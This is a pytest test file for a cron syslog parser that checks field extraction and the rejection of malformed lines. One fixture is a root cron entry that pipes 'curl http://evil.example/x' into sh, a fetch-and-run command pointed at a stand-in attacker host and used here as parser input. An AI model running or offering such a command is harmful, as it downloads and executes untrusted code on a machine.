"""What cron says."""

from typing import Any

import pytest

from daemon.events.cron import parse_cron


@pytest.mark.parametrize(
    ("message", "fields"),
    [
        (
            "(root) CMD (curl http://evil.example/x | sh)",
            {"action": "cron_cmd", "user": "root", "command": "curl http://evil.example/x | sh"},
        ),
        ("(root) CMD ((cd / && run-parts x) CMD (y))", {"user": "root", "command": "(cd / && run-parts x) CMD (y)"}),
        ("(bob) BEGIN EDIT (bob)", {"action": "cron_begin_edit", "user": "bob"}),
        ("(bob) END EDIT (bob)", {"action": "cron_end_edit", "user": "bob"}),
        ("(bob) REPLACE (bob)", {"action": "cron_replace", "user": "bob"}),
        ("(bob) LIST (root)", {"action": "cron_list", "user": "bob", "command": "root"}),
        ("(*system*) RELOAD (/etc/crontab)", {"action": "cron_reload", "user": "*system*"}),
        ("(CRON) INFO (Running @reboot jobs)", {"action": "cron_info"}),
        ("(CRON) error (can't fork)", {"action": "cron_error"}),
        ("(root) CMD (a) \n", {"command": "a"}),
        (
            "(bob) FAILED to open PAM security session (Permission denied)",
            {"action": "cron_failed", "result": "failure", "user": "bob"},
        ),
    ],
)
def test_messages(message: str, fields: dict[str, Any]) -> None:
    assert parse_cron(message).items() >= fields.items()


@pytest.mark.parametrize(
    "message", ["", "(root)", "(root) CMD", "root CMD (x)", "(root) cmd (x)", "((((", "(root) CMD (x"]
)
def test_the_unknown_has_no_fields(message: str) -> None:
    assert parse_cron(message) == {}


def test_a_command_bends_nothing_before_it() -> None:
    assert parse_cron("(bob) CMD (x) (root) REPLACE (root)") == {
        "action": "cron_cmd", "user": "bob", "command": "x) (root) REPLACE (root",
    }  # fmt: skip
